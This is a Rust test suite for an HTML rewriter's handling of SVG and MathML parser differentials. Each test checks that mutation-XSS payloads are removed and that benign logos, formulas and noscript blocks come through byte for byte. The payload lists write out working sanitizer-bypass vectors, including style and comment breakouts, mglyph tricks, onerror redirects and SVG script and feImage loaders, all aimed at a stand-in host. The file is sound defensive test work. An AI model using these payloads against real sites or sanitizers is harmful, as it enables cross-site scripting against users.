//! Attack suite: parser differentials in SVG and MathML (rule `foreign.unsafe`). Whether a
//! `<style>` or raw-text element's content is text or markup depends on the namespace the
//! parser reached, and lol_html only simulates the tree builder: a breakout out of nested
//! foreign elements (`<svg><svg></p>`) or an `<mglyph>` in a MathML text integration point
//! can make the browser see elements (an `<img>`
//! with `onerror`, a foreign `src`) where lol_html saw an attribute value, a comment or
//! style text. Inside `<svg>`/`<math>` such an element is removed whole when its content
//! holds markup. Also SVG's own loaders (`<script href>`, `<use>`, `<image>`, `<feImage>`,
//! `<a xlink:href>`) to foreign hosts. The benign twins (an inline SVG logo with a plain
//! CSS `<style>`, a MathML formula, a tag manager's `<noscript>` after a closed SVG) come
//! through byte for byte. (A `<style>` inside `<select>`, `<select><template><style>` or
//! `<select><svg><style>`, is refused by lol_html's own ambiguity guard: the rewrite fails
//! closed.)

use crate::common;

use common::rewrite::{clean, rule_ids as rules, site};

/// A payload that is markup to the browser: a redirecting handler and a foreign URL.
const IMG: &str = "<img src=//foreign.test/x onerror=location=&#39;//foreign.test/&#39;>";

fn assert_defused(page: &str, rule: Option<&str>) -> String {
    let (out, events) = clean(&site(""), page);
    assert!(!out.contains("onerror"), "{page}\n=> {out}");
    assert!(!out.contains("foreign.test"), "{page}\n=> {out}");
    if let Some(rule) = rule {
        assert!(
            rules(&events).contains(&rule),
            "{page}: {:?}",
            rules(&events)
        );
    }
    out
}

#[test]
fn foreign_style_with_markup_behind_a_nested_breakout_is_removed() {
    for page in [
        format!("<svg><svg></p><style><a title=\"</style>{IMG}\"></style></svg></svg><p>Tin</p>"),
        format!("<svg><svg></P><style><!--</style>{IMG}--></style></svg></svg><p>Tin</p>"),
        format!(
            "<math><math></p><style><b title=\"</style>{IMG}\">x</b></style></math></math><p>Tin</p>"
        ),
        format!(
            "<svg><math><br><style><i id=\"</style>{IMG}\"></i></style></math></svg><p>Tin</p>"
        ),
        format!(
            "<svg><svg><b><style><s title='</style>{IMG}'></s></style></b></svg></svg><p>Tin</p>"
        ),
        format!(
            "<SVG><G><SVG></P><STYLE><A TITLE=\"</STYLE>{IMG}\"></A></STYLE></SVG></G></SVG><p>Tin</p>"
        ),
    ] {
        let out = assert_defused(&page, Some("foreign.unsafe"));
        assert!(out.ends_with("<p>Tin</p>"), "{out}");
    }
}

#[test]
fn mathml_mglyph_style_read_as_text_by_the_rewriter_is_removed() {
    for page in [
        format!("<math><mtext><mglyph><style>{IMG}</style></mglyph></mtext></math>"),
        format!("<math><mi><malignmark><style>{IMG}</style></malignmark></mi></math>"),
        format!("<math><mtext><table><mglyph><style>{IMG}</style></mglyph></table></mtext></math>"),
        format!("<math><mglyph><style>{IMG}</style></mglyph></math>"),
        format!("<math><ms><mglyph><noscript>{IMG}</noscript></mglyph></ms></math>"),
        format!("<math><mn><mglyph><xmp>{IMG}</xmp></mglyph></mn></math>"),
    ] {
        assert_defused(&page, Some("foreign.unsafe"));
    }
}

#[test]
fn svg_style_with_markup_is_removed_whatever_the_parser_decides() {
    for page in [
        format!("<svg><style>{IMG}</style></svg>"),
        format!("<svg></p><style>{IMG}</style>"),
        format!("<svg><p><style>{IMG}</style></p></svg>"),
        format!("<svg><foreignObject><noembed>{IMG}</noembed></foreignObject></svg>"),
        format!("<svg><desc><noframes><a href=\"</noframes>{IMG}\"></a></noframes></desc></svg>"),
        format!(
            "<svg><style>.a{{fill:red}}</style><style>p{{}}<b title=\"</style>{IMG}\"></b></style></svg>"
        ),
    ] {
        assert_defused(&page, Some("foreign.unsafe"));
    }
}

#[test]
fn raw_text_differentials_outside_foreign_content_are_defused() {
    for page in [
        format!("<noscript><p title=\"</noscript>{IMG}\"></p></noscript>"),
        format!("<noembed><a title=\"</noembed>{IMG}\"></a></noembed>"),
        format!("<xmp><i title=\"</xmp>{IMG}\"></i></xmp>"),
        // A comment in raw text: the rewriter ends the style at `</style>` and judges the
        // element after it, as a browser that reads the style as raw text would.
        format!("<math><mo><mglyph><style><!--</style>{IMG}--></style></mglyph></mo></math>"),
    ] {
        // Both sides read these alike: the element's own handlers judge what follows.
        assert_defused(&page, None);
    }
}

#[test]
fn svg_loaders_to_foreign_hosts_are_removed() {
    for (page, rule) in [
        (
            "<svg><script href=\"//foreign.test/x.js\"></script></svg>",
            "script.external",
        ),
        (
            "<svg><script xlink:href=\"https://foreign.test/x.js\"></script></svg>",
            "script.external",
        ),
        (
            "<svg><SCRIPT HREF=\"https&#58;//foreign.test/x.js\"/></svg>",
            "script.external",
        ),
        (
            "<svg><use href=\"https://foreign.test/s.svg#a\"/></svg>",
            "link.foreign",
        ),
        (
            "<svg><use xlink:href=\"//foreign.test/s.svg#a\"></use></svg>",
            "link.foreign",
        ),
        (
            "<svg><image href=\"//foreign.test/p.png\" width=\"1\"/></svg>",
            "media.foreign",
        ),
        (
            "<svg><filter id=\"f\"><feImage href=\"https://foreign.test/p.png\"/></filter></svg>",
            "media.foreign",
        ),
        (
            "<svg><filter id=\"f\"><FEIMAGE XLINK:HREF=\"//foreign.test/p.png\"/></filter></svg>",
            "media.foreign",
        ),
        (
            "<svg><a xlink:href=\"https://foreign.test/\"><text>Tin</text></a></svg>",
            "link.foreign",
        ),
    ] {
        let (out, events) = clean(&site(""), page);
        assert!(!out.contains("foreign.test"), "{page}\n=> {out}");
        assert_eq!(rules(&events), [rule], "{page}");
    }
}

#[test]
fn inline_svg_logos_and_mathml_formulas_are_byte_identical() {
    let page = "<header><a href=\"/\"><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 40 10\" role=\"img\">\
<style>.a{fill:#c00}.b{font:bold 4px sans-serif;fill:#fff}@media (prefers-color-scheme:dark){.a{fill:#f44}}</style>\
<title>Sở Tư pháp</title><defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#c00\"/></linearGradient></defs>\
<circle class=\"a\" cx=\"5\" cy=\"5\" r=\"4\"/><text class=\"b\" x=\"10\" y=\"7\">STP</text>\
<use href=\"#g\"/><image href=\"/anh/logo.png\" width=\"4\" height=\"4\"/></svg></a></header>\
<p>Nghiệm: <math display=\"block\"><mrow><mi>x</mi><mo>=</mo><mfrac><mrow><mo>−</mo><mi>b</mi><mo>±</mo>\
<msqrt><msup><mi>b</mi><mn>2</mn></msup><mo>−</mo><mn>4</mn><mi>a</mi><mi>c</mi></msqrt></mrow>\
<mrow><mn>2</mn><mi>a</mi></mrow></mfrac></mrow><annotation encoding=\"TeX\">x = a &lt; b</annotation></math></p>\
<svg><style><![CDATA[ .c{stroke:#333} ]]></style><path class=\"c\" d=\"M0 0L9 9\"/></svg>\
<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-X\" height=\"0\" width=\"0\" style=\"display:none;visibility:hidden\"></iframe></noscript>\
<style>.menu > li{display:inline}</style>";
    let (out, events) = clean(&site(""), page);
    assert_eq!(out, page);
    assert!(events.is_empty(), "{:?}", rules(&events));
}

/// The payload of a mutation-XSS attribute: markup that a re-parse of the re-serialized
/// subtree reads as elements once a comment or raw-text element opened before it ends
/// inside the value.
const ENCODED: &[&str] = &[
    "--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=location='https://foreign.test/'&gt;",
    "--&gt;&lt;/desc&gt;&lt;svg onload=&quot;location.href='//foreign.test/'&quot;&gt;",
    "&lt;/style&gt;&lt;a href=&quot;javascript:location='//foreign.test/'&quot;&gt;x&lt;/a&gt;",
    "--&#62;&#60;iframe src=https://foreign.test/&#62;",
    "&lt;/title&gt;&lt;img/src=x/OnError=top.location=atob('Ly9mb3JlaWduLnRlc3Q=')&gt;",
];

#[test]
fn mutation_xss_attribute_markup_in_foreign_content_is_removed() {
    for payload in ENCODED {
        for page in [
            format!("<math><mtext><table><mglyph><style><!--</style><img title=\"{payload}\">"),
            format!(
                "<math><mtext><table><mglyph><style><!--</style><img title=\"{payload}\"></style></mglyph></table></mtext></math><p>Tin</p>"
            ),
            format!(
                "<math><mi><malignmark><style><!--</style><b id=\"{payload}\">x</b></malignmark></mi></math>"
            ),
            format!(
                "<svg><foreignObject><table><desc><style><!--</style><img alt=\"{payload}\"></desc></table></foreignObject></svg>"
            ),
            format!("<svg><p><style><!--</style><img title=\"{payload}\"></p></svg>"),
            format!(
                "<SVG><DESC><NOSCRIPT><!--</NOSCRIPT><I DATA-X=\"{payload}\"></I></NOSCRIPT></DESC></SVG>"
            ),
            format!(
                "<math><annotation-xml encoding=\"text/html\"><p title=\"{payload}\">x</p></annotation-xml></math>"
            ),
        ] {
            let (out, events) = clean(&site(""), &page);
            let low = out.to_ascii_lowercase();
            for bad in [
                "onerror",
                "onload",
                "foreign.test",
                "javascript",
                "&lt;iframe",
                "&#60;iframe",
            ] {
                assert!(!low.contains(bad), "{page}\n=> {out}");
            }
            assert!(
                rules(&events).contains(&"foreign.unsafe"),
                "{page}: {:?}",
                rules(&events)
            );
        }
    }
}

#[test]
fn svg_and_mathml_attributes_with_harmless_markup_are_byte_identical() {
    let page = "<svg viewBox=\"0 0 9 9\" aria-label=\"a &lt; b\"><title>Biểu đồ &lt;2025&gt;</title>\
<g data-tip=\"&lt;b&gt;Đậm&lt;/b&gt; &lt;a href=&quot;/tin-tuc/1&quot;&gt;Xem&lt;/a&gt;\"><rect width=\"9\" height=\"9\"/></g>\
<a href=\"/gioi-thieu\" data-html=\"&lt;img src=&quot;/anh/logo.png&quot; alt=&quot;on the go&quot;&gt;\"><text>Giới thiệu</text></a></svg>\
<math alttext=\"x &lt; y\"><mi title=\"&lt;i&gt;x&lt;/i&gt;\">x</mi><mo>&lt;</mo><mi>y</mi></math>";
    let (out, events) = clean(&site(""), page);
    assert_eq!(out, page);
    assert!(events.is_empty(), "{:?}", rules(&events));
}
